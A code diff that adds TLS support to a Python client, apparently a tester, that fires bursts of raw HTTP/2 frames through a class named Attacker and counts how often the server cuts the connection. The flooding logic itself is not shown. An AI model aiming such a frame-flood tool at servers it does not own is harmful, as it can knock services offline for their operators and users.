@@ -5,6 +5,7 @@ it is cut off, and returns how often that was. The HTTP/2 here is only what the 
 """
 import select
 import socket
+import ssl
 import struct
 import time
 
@@ -12,6 +13,8 @@ PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
 END_STREAM, END_HEADERS, ACK = 1, 4, 1
 BURST = 2000  # frames written at once
+TLS = None  # an ssl.SSLContext: all this happens behind a handshake
+LATER = BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError
 
 
 def frame(kind, flags, stream, payload=b""):
@@ -42,7 +45,8 @@ def connect(address, timeout=5):
         s.connect(address[len("unix:"):])
         return s
     host, port = address.rsplit(":", 1)
-    return socket.create_connection((host, int(port)), timeout=timeout)
+    s = socket.create_connection((host, int(port)), timeout=timeout)
+    return TLS.wrap_socket(s) if TLS else s
 
 
 class Cut(Exception):
@@ -68,7 +72,7 @@ class Attacker:
                     raise Cut
                 if writable:
                     left = left[self.s.send(left[:1 << 16]):]
-            except BlockingIOError:
+            except LATER:
                 continue
             except OSError as e:
                 raise Cut from e
@@ -80,7 +84,7 @@ class Attacker:
             try:
                 if select.select([self.s], [], [], left)[0] and not self.s.recv(1 << 16):
                     raise Cut
-            except BlockingIOError:
+            except LATER:
                 continue
             except OSError as e:
                 raise Cut from e
